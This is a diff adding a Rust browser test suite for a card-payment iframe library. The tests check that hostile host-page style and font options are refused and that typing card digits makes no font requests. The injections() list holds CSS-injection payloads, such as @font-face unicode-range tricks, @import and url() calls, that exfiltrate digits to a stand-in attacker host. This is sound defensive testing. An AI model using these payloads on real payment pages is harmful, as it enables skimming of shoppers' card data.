@@ -1,0 +1,248 @@
+//! The isolation promise against a hostile host page, in real Chromium against the real
+//! binary: style and font options that try to become CSS are refused (by the host part and,
+//! when a page talks to a frame directly, by the frame itself), and accepted web fonts are
+//! all fetched when the frames are configured, so the requests the frames make while the
+//! shopper types digits are exactly those made without typing.
+
+mod support;
+
+use std::net::TcpListener;
+use std::sync::atomic::{AtomicUsize, Ordering};
+use std::sync::Arc;
+use std::time::Duration;
+
+use serde_json::{json, Value};
+use support::{browser, eval, next_year_yy, open_lab, type_in_frame, Server};
+
+/// A loopback port that counts the connections made to it (a font host that never answers
+/// TLS: the browser's attempt is what is counted).
+struct CountingHost {
+    port: u16,
+    connections: Arc<AtomicUsize>,
+}
+
+impl CountingHost {
+    fn start() -> CountingHost {
+        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+        let port = listener.local_addr().unwrap().port();
+        let connections = Arc::new(AtomicUsize::new(0));
+        let counter = Arc::clone(&connections);
+        std::thread::spawn(move || {
+            for stream in listener.incoming() {
+                counter.fetch_add(1, Ordering::SeqCst);
+                drop(stream);
+            }
+        });
+        CountingHost { port, connections }
+    }
+
+    fn count(&self) -> usize {
+        self.connections.load(Ordering::SeqCst)
+    }
+}
+
+fn counts(hosts: &[CountingHost]) -> Vec<usize> {
+    hosts.iter().map(CountingHost::count).collect()
+}
+
+/// Waits until the counts have not changed for a second; returns them.
+async fn settled(hosts: &[CountingHost]) -> Vec<usize> {
+    let mut last = counts(hosts);
+    let mut stable_since = std::time::Instant::now();
+    let deadline = std::time::Instant::now() + Duration::from_secs(15);
+    while stable_since.elapsed() < Duration::from_secs(1) && std::time::Instant::now() < deadline {
+        tokio::time::sleep(Duration::from_millis(100)).await;
+        let now = counts(hosts);
+        if now != last {
+            last = now;
+            stable_since = std::time::Instant::now();
+        }
+    }
+    last
+}
+
+fn lab_url(server: &Server, options: &[(&str, Value)]) -> String {
+    let mut url = format!("{}/lab.html?x=1", server.merchant);
+    for (name, value) in options {
+        url.push_str(&format!(
+            "&{name}={}",
+            urlencoding::encode(&value.to_string())
+        ));
+    }
+    url
+}
+
+#[tokio::test]
+async fn typing_digits_makes_no_request_that_fonts_could_choose() {
+    let data = tempfile::tempdir().unwrap();
+    let server = Server::start(data.path());
+    let hosts: Vec<CountingHost> = (0..4).map(|_| CountingHost::start()).collect();
+    let fonts: Vec<Value> = hosts
+        .iter()
+        .enumerate()
+        .map(|(i, h)| {
+            json!({"family": format!("Leak{i}"), "src": format!("https://127.0.0.1:{}/digit-{i}.woff2", h.port)})
+        })
+        .collect();
+    let styles = json!({"base": {"fontFamily": "Leak0, Leak1, Leak2, Leak3, monospace"}});
+    let browser = browser().await;
+    let c = &browser.client;
+    open_lab(
+        c,
+        &lab_url(&server, &[("fonts", json!(fonts)), ("styles", styles)]),
+        "ready",
+    )
+    .await;
+    let before = settled(&hosts).await;
+    assert!(
+        before.iter().all(|n| *n > 0),
+        "every face was asked for when the frames were configured: {before:?}"
+    );
+
+    type_in_frame(c, 0, "4242424242424242").await;
+    type_in_frame(c, 1, &format!("12{:02}", next_year_yy())).await;
+    type_in_frame(c, 2, "4739").await;
+    let after = settled(&hosts).await;
+    assert_eq!(
+        after, before,
+        "typing digits made the frames contact a font host"
+    );
+    let done = c
+        .execute_async(
+            "const done = arguments[0]; window.lab.card.encrypt().then(r => done(r.last4), e => done(e.code))",
+            vec![],
+        )
+        .await
+        .unwrap();
+    assert_eq!(done, json!("4242"), "the fonts did not break the form");
+    browser.close().await;
+}
+
+/// Options a skimmer script on the host page might pass, each with the path its error names.
+fn injections(attacker: u16) -> Vec<(&'static str, &'static str, Value)> {
+    let evil = format!("https://127.0.0.1:{attacker}");
+    vec![
+        (
+            "fonts",
+            "fonts[0].src",
+            json!([{"family": "Leak", "src": format!("{evil}/f\");}}@font-face{{font-family:Leak;src:url({evil}/3);unicode-range:U+33")}]),
+        ),
+        (
+            "fonts",
+            "fonts[0].unicodeRange",
+            json!([{"family": "Leak", "src": format!("{evil}/3"), "unicodeRange": "U+33"}]),
+        ),
+        (
+            "fonts",
+            "fonts[0].src",
+            json!([{"family": "Leak", "src": format!("//127.0.0.1:{attacker}/f")}]),
+        ),
+        (
+            "fonts",
+            "fonts[0].src",
+            json!([{"family": "Leak", "src": "data:font/woff2;base64,AAAA"}]),
+        ),
+        (
+            "fonts",
+            "fonts[0].weight",
+            json!([{"family": "Leak", "src": format!("{evil}/f"), "weight": "400;unicode-range:U+30"}]),
+        ),
+        (
+            "styles",
+            "styles.base.fontFamily",
+            json!({"base": {"fontFamily": format!("x; }} @import url({evil}/x.css)")}}),
+        ),
+        (
+            "styles",
+            "styles.base.backgroundColor",
+            json!({"base": {"backgroundColor": format!("url({evil}/bg)")}}),
+        ),
+        (
+            "styles",
+            "styles.base.color",
+            json!({"base": {"color": "red</style><style>input{color:blue}"}}),
+        ),
+        (
+            "styles",
+            "styles.base.color",
+            json!({"base": {"color": "\\72 ed"}}),
+        ),
+        (
+            "styles",
+            "styles.base.color",
+            json!({"base": {"color": "a".repeat(10_000)}}),
+        ),
+    ]
+}
+
+#[tokio::test]
+async fn style_and_font_injections_are_refused_by_host_and_frame() {
+    let data = tempfile::tempdir().unwrap();
+    let server = Server::start(data.path());
+    let attacker = CountingHost::start();
+    let browser = browser().await;
+    let c = &browser.client;
+
+    // At mount: the host part refuses, naming the option.
+    for (option, path, value) in injections(attacker.port) {
+        open_lab(c, &lab_url(&server, &[(option, value)]), "error").await;
+        let error = eval(c, "return window.lab.error").await;
+        assert_eq!(error["code"], "INVALID_OPTION", "{path}");
+        let message = error["message"].as_str().unwrap();
+        assert!(message.starts_with(path), "{path}: {message}");
+    }
+
+    // After mount, through update(): refused, and nothing changes.
+    open_lab(c, &lab_url(&server, &[]), "ready").await;
+    for (option, path, value) in injections(attacker.port) {
+        let code = c
+            .execute(
+                "try { window.lab.card.update({[arguments[0]]: arguments[1]}); return 'accepted'; } catch (e) { return e.code; }",
+                vec![json!(option), value],
+            )
+            .await
+            .unwrap();
+        assert_eq!(code, "INVALID_OPTION", "update: {path}");
+    }
+
+    // A page that skips the host part and configures a secure frame itself: the frame
+    // checks the options again and refuses them.
+    for (option, path, value) in injections(attacker.port) {
+        let seen = c
+            .execute_async(
+                r#"const [gateway, option, value, done] = arguments;
+                const channel = 'ab'.repeat(16);
+                const frame = document.createElement('iframe');
+                frame.src = `${gateway}/frames/field.html#field=securityCode&channel=${channel}`;
+                const seen = [];
+                const config = fetch('/api/config').then(r => r.json());
+                window.addEventListener('message', async (e) => {
+                  const d = e.data;
+                  if (!d || d.channel !== channel) return;
+                  seen.push(d.code ? `${d.type}:${d.code}` : d.type);
+                  if (d.type === 'hello') {
+                    const { clientKey } = await config;
+                    frame.contentWindow.postMessage({ paykka: 1, channel, field: 'securityCode', type: 'configure',
+                      options: { clientKey, [option]: value } }, gateway);
+                  }
+                  if (d.type === 'failed' || d.type === 'ready') { frame.remove(); done(seen); }
+                });
+                document.body.appendChild(frame);
+                setTimeout(() => done(seen), 10000);"#,
+                vec![json!(server.gateway), json!(option), value],
+            )
+            .await
+            .unwrap();
+        assert_eq!(
+            seen,
+            json!(["hello", "failed:INVALID_OPTION"]),
+            "forged configure: {path}"
+        );
+    }
+    assert_eq!(
+        settled(std::slice::from_ref(&attacker)).await,
+        vec![0],
+        "no request ever reached the attacker's host"
+    );
+    browser.close().await;
+}
